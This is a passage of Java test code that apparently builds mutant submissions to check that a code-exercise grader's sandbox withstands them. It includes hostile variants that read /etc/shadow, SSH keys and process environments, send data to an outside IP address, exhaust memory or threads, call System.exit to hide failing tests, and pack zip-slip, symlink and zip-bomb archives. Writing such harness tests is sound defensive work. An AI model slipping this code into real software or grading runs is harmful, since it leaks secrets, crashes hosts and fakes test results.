                            return nanoseconds * SECONDS_PER_NANOSECOND * SCALE;
                    """);
        }

        /** "> 1" where the rule says "at least 1": exactly one minute stays "60 s". */
        static Copy strictComparison(Copy copy) {
            return copy.edit("HumanTime", """
                    if (seconds / units[i].seconds() >= 1) {""", """
                    if (seconds / units[i].seconds() > 1) {""");
        }

        static Copy missingSemicolon(Copy copy) {
            return copy.edit("HumanTime", """
                            HumanUnit unit = unitFor(seconds);
                    """, """
                            HumanUnit unit = unitFor(seconds)
                    """);
        }
    }

    /** Hostile code, each on a path the tests reach. */
    static final class Hostile {
        private Hostile() {
        }

        /** Every matrix method checks its shape first, and the check spins forever, deaf to interrupts. */
        static Copy spinsForever(Copy copy) {
            return copy.edit("CacheEffects", """
                        private static void requireShape(double[] matrix, int rows, int cols) {
                    """, """
                        private static void requireShape(double[] matrix, int rows, int cols) {
                            long spins = 0;
                            while (spins >= 0) {
                                spins = (spins + 1) % 1_000_000;
                                Thread.onSpinWait();
                            }
                    """);
        }

        /** Ends the test run as soon as a refused duration would make a test fail. */
        static Copy exits(Copy copy) {
            return copy.edit("HumanTime", """
                            requireDuration(nanoseconds, "nanoseconds");
                            return nanoseconds * SECONDS_PER_NANOSECOND * SCALE;
                    """, """
                            if (!(nanoseconds >= 0) || Double.isInfinite(nanoseconds)) {
                                System.exit(0);
                            }
                            return nanoseconds * SECONDS_PER_NANOSECOND * SCALE;
                    """);
        }

        /** Keeps a copy of every array it sums, and then some, until the heap is full. */
        static Copy hoardsMemory(Copy copy) {
            return copy.edit("CacheEffects", """
                        public static double sumArray(double[] values) {
                            double sum = 0;
                    """, """
                        public static double sumArray(double[] values) {
                            while (HOARD.size() < Integer.MAX_VALUE) {
                                HOARD.add(new double[1 << 20]);
                            }
                            double sum = 0;
                    """).edit("CacheEffects", """
                        private CacheEffects() {
                    """, """
                        private static final java.util.List<double[]> HOARD = new java.util.ArrayList<>();

                        private CacheEffects() {
                    """);
        }

        /** Prints the password file, the environment and whatever of the host it can find, then answers right. */
        static Copy readsHostFiles(Copy copy) {
            return copy.edit("HumanTime", """
                        public static double humanSeconds(double nanoseconds) {
                            requireDuration(nanoseconds, "nanoseconds");
                    """, """
                        public static double humanSeconds(double nanoseconds) {
                            snoop();
                            requireDuration(nanoseconds, "nanoseconds");
                    """).edit("HumanTime", """
                        private static void requireDuration(double value, String what) {
                    """, """
                        private static boolean snooped;

                        private static void snoop() {
                            if (snooped) {
                                return;
                            }
                            snooped = true;
                            for (String name : new String[] {"/etc/passwd", "/etc/shadow", "/etc/hostname",
                                "/root/.ssh/id_rsa", "/home", "/work", "/var/run/docker.sock", "/proc/1/environ"}) {
                                java.io.File file = new java.io.File(name);
                                try {
                                    if (file.isDirectory()) {
                                        System.out.println(name + ": " + java.util.Arrays.toString(file.list()));
                                    } else {
                                        System.out.println(name + ":\\n" + java.nio.file.Files.readString(file.toPath()));
                                    }
                                } catch (java.io.IOException | RuntimeException e) {
                                    System.out.println(name + ": " + e);
                                }
                            }
                        }

                        private static void requireDuration(double value, String what) {
                    """);
        }

        /** Sends each answer to a server before returning it; with no network it carries on. */
        static Copy phonesHome(Copy copy) {
            return copy.edit("HumanTime", """
                        public static String humanTime(Latency latency) {
                            return format(humanSeconds(latency.nanoseconds()));
                        }
                    """, """
                        public static String humanTime(Latency latency) {
                            String answer = format(humanSeconds(latency.nanoseconds()));
                            try (java.net.Socket socket = new java.net.Socket()) {
                                socket.connect(new java.net.InetSocketAddress("93.184.215.14", 80), 2_000);
                                socket.getOutputStream().write((latency.event() + " = " + answer + "\\n").getBytes());
                            } catch (java.io.IOException e) {
                                System.out.println("no network: " + e.getMessage());
                            }
                            return answer;
                        }
                    """);
        }

        /** Starts threads that never end, until no more can start. */
        static Copy startsThreads(Copy copy) {
            return copy.edit("CacheEffects", """
                        public static double sumLinkedList(LinkedList<Double> values) {
                    """, """
                        public static double sumLinkedList(LinkedList<Double> values) {
                            for (int i = 0; i < 100_000; i++) {
                                Thread helper = new Thread(() -> {
                                    try {
                                        Thread.sleep(Long.MAX_VALUE);
                                    } catch (InterruptedException e) {
                                        Thread.currentThread().interrupt();
                                    }
                                });
                                helper.start();
                            }
                    """);
        }
    }

    /** Archives that are hostile as archives: they must be refused before anything in them is graded. */
    static final class Archives {
        private Archives() {
        }

        static void addReference(ZipWriter zip, Map<String, String> ref) {
            ref.forEach((name, text) -> zip.file(PACKAGE + name + ".java", utf8(text), true));
        }

        /** A correct copy, plus an entry that would be written two folders above wherever it is unpacked. */
        static Submission zipSlip(Map<String, String> ref) {
            ZipWriter zip = new ZipWriter();
            zip.file("../../evil.txt", utf8("written outside the folder the zip was unpacked into\n"), true);
            addReference(zip, ref);
            return new ArchiveOnly(zip.finish());
        }

        /** A correct copy, plus a symbolic link to the host's /etc next to the classes. */
        static Submission symlinkToEtc(Map<String, String> ref) {
            Map<String, byte[]> files = new TreeMap<>();
            ref.forEach((name, text) -> files.put(PACKAGE + name + ".java", utf8(text)));
            files.put(PACKAGE + "etc", utf8("/etc"));
            return new ArchiveOnly(new Tree(files, Set.of(PACKAGE + "etc")).zip());
        }

        /** A correct copy, plus a 300 MiB class of zeros that compresses to a few hundred KiB. */
        static Submission zipBomb(Map<String, String> ref) {
            ZipWriter zip = new ZipWriter();
            addReference(zip, ref);
            zip.zeros(PACKAGE + "Zeros.java", ZIP_BOMB_BYTES);
            return new ArchiveOnly(zip.finish());
        }

        /** A correct copy, plus 10,001 tiny generated classes: more entries than any honest copy has. */
        static Submission tooManyEntries(Map<String, String> ref) {
            ZipWriter zip = new ZipWriter();
            addReference(zip, ref);
            for (int i = 1; i <= MANY_ENTRIES; i++) {
                String name = "Generated%05d".formatted(i);
                zip.file(PACKAGE + "generated/" + name + ".java", utf8("package dev.amdahl.exercises.latency.generated;"
                        + "\n\nfinal class " + name + " {\n}\n"), true);
            }
            return new ArchiveOnly(zip.finish());
        }
    }
}
